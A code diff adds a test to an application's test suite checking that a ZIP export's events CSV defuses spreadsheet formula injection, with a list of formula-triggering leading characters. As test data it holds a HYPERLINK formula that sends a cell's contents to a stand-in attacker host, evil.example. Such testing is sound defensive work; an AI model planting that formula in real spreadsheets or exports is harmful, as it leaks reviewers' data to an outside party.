@@ -83,3 +83,19 @@ async def test_under_asgi_the_zip_is_streamed_as_it_is_written(acme, s3):
     chunks = [chunk async for chunk in response.streaming_content]
     assert len(chunks) >= 2  # the texts first, then the images
     assert zipfile.ZipFile(io.BytesIO(b"".join(chunks))).testzip() is None
+
+
+def test_events_csv_holds_no_live_formula(acme, client_for):
+    """An event detail from the candidate's page reaches the reviewer's spreadsheet as text."""
+    from tests.factories import MonitoringEventFactory
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    MonitoringEventFactory(application=acme.application, detail=formula)
+    MonitoringEventFactory(application=acme.application, detail="@SUM(1,1)")
+    archive = _zip(
+        client_for(acme.recruiter).get(f"/api/applications/{acme.application.pk}/export.zip")
+    )
+    rows = list(csv.DictReader(io.StringIO(archive.read("events.csv").decode())))
+    assert sorted(row["detail"] for row in rows) == ["'" + formula, "'@SUM(1,1)"]
+    starts = {cell[:1] for row in rows for cell in row.values() if cell}
+    assert not starts & {"=", "+", "-", "@", "\t", "\r"}
